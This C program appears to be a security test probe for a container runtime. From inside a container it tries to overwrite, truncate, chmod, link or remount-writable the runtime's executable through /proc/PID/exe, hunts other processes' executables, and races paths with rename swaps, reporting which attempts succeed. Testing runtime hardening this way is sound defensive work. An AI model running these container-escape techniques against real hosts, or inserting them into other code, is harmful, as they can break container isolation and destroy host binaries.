/* attack: what a hostile program in a container does to the runtime's
 * executable and to paths that are being mounted on.
 *
 *	attack exe PATH      every way to change the file at PATH, once; prints a
 *	                     line "NAME ERRNO" each, "NAME written" if one worked
 *	attack hunt SECONDS  the same for /proc/PID/exe of every process that runs
 *	                     another program than this and busybox; what was found
 *	                     is kept, and attacked again when its process has ended
 *	attack swap A B      exchange A and B for ever
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/xattr.h>
#include <time.h>
#include <unistd.h>

static int worked;

static void result(const char *name, long ret)
{
	printf("%s %s\n", name, ret < 0 ? strerrorname_np(errno) : "written");
	worked += ret >= 0;
}

/* An open for writing counts, whether or not anything is written. */
static void open_for(const char *name, const char *path, int flags)
{
	int fd = open(path, flags | O_CLOEXEC);

	result(name, fd);
	if (fd >= 0)
		close(fd);
}

/* Through the pages of the process that runs it: proc_pid_map_files(5). */
static void map_files(const char *exe)
{
	char dir[64], path[512];
	struct dirent *entry;
	DIR *d;
	int tried = 0;

	if (strncmp(exe, "/proc/", 6) != 0 || strlen(exe) > 40)
		return;
	snprintf(dir, sizeof(dir), "%.*s/map_files", (int)(strrchr(exe, '/') - exe), exe);
	d = opendir(dir);
	while (d && tried < 3 && (entry = readdir(d))) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, entry->d_name);
		open_for("map_files", path, O_RDWR);
		tried++;
	}
	if (d)
		closedir(d);
}

static void attack_mount(int fd, const char *path)
{
	struct mount_attr writable = { .attr_clr = MOUNT_ATTR_RDONLY };
	int tree;

	result("remount", mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL));
	result("mount_setattr", syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &writable, sizeof(writable)));
	if (mount(path, "/attack.target", NULL, MS_BIND, NULL) == 0) {
		mount(NULL, "/attack.target", NULL, MS_REMOUNT | MS_BIND, NULL);
		open_for("bind", "/attack.target", O_WRONLY);
		umount2("/attack.target", MNT_DETACH);
	} else {
		result("bind", -1);
	}
	tree = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
	if (tree >= 0) {
		char again[32];

		syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &writable, sizeof(writable));
		snprintf(again, sizeof(again), "/proc/self/fd/%d", tree);
		open_for("open_tree", again, O_WRONLY);
		close(tree);
	} else {
		result("open_tree", -1);
	}
}

/* fd is an O_PATH handle of the file, or an open one. */
static void attack_handle(int fd)
{
	static const struct timespec times[2] = { { .tv_sec = 1 }, { .tv_sec = 1 } };
	char path[32];

	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	open_for("write", path, O_WRONLY);
	open_for("read-write", path, O_RDWR);
	open_for("append", path, O_WRONLY | O_APPEND);
	open_for("truncating open", path, O_WRONLY | O_TRUNC);
	result("truncate", truncate(path, 0));
	result("chmod", chmod(path, 0777));
	result("chown", chown(path, 1, 1));
	result("times", utimensat(AT_FDCWD, path, times, 0));
	result("setxattr", setxattr(path, "trusted.attack", "x", 1, 0));
	result("link", linkat(AT_FDCWD, path, AT_FDCWD, "/attack.link", AT_SYMLINK_FOLLOW));
	result("link of the handle", linkat(fd, "", AT_FDCWD, "/attack.link2", AT_EMPTY_PATH));
	attack_mount(fd, path);
}

static int attack_exe(const char *path)
{
	int fd = open(path, O_PATH | O_CLOEXEC);

	if (fd < 0) {
		printf("cannot be reached: %s\n", strerrorname_np(errno));
		return 2;
	}
	open_for("write by path", path, O_WRONLY);
	map_files(path);
	attack_handle(fd);
	close(fd);
	return worked ? 1 : 0;
}

static int is_ours(const struct stat *st)
{
	static const char *const programs[] = { "/proc/self/exe", "/bin/busybox", "/bin/probe" };
	struct stat own;

	for (size_t i = 0; i < sizeof(programs) / sizeof(*programs); i++)
		if (stat(programs[i], &own) == 0 && own.st_ino == st->st_ino && own.st_dev == st->st_dev)
			return 1;
	return 0;
}

struct caught {
	char exe[32];
	int fd;
};

static int hunt(int seconds)
{
	enum { KEEP = 64 };
	static struct caught kept[KEEP];
	time_t end = time(NULL) + seconds;
	int found = 0;

	while (time(NULL) < end) {
		DIR *proc = opendir("/proc");
		struct dirent *entry;

		while (proc && (entry = readdir(proc))) {
			struct caught c;
			struct stat st;

			if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
				continue;
			snprintf(c.exe, sizeof(c.exe), "/proc/%.20s/exe", entry->d_name);
			c.fd = open(c.exe, O_PATH | O_CLOEXEC);
			if (c.fd < 0)
				continue;
			if (fstat(c.fd, &st) < 0 || is_ours(&st)) {
				close(c.fd);
				continue;
			}
			open_for("write by path", c.exe, O_WRONLY);
			attack_handle(c.fd);
			if (found < KEEP)
				kept[found] = c;
			else
				close(c.fd);
			found++;
		}
		if (proc)
			closedir(proc);
		if (access("/attack.stop", F_OK) == 0)
			break;
	}
	for (int i = 0; i < found && i < KEEP; i++)
		attack_handle(kept[i].fd);
	printf("caught %d\n", found);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 3 && strcmp(argv[1], "exe") == 0)
		return attack_exe(argv[2]);
	if (argc == 3 && strcmp(argv[1], "hunt") == 0)
		return hunt(atoi(argv[2]));
	if (argc == 4 && strcmp(argv[1], "swap") == 0)
		while (renameat2(AT_FDCWD, argv[2], AT_FDCWD, argv[3], RENAME_EXCHANGE) == 0)
			;
	perror("attack");
	return 2;
}
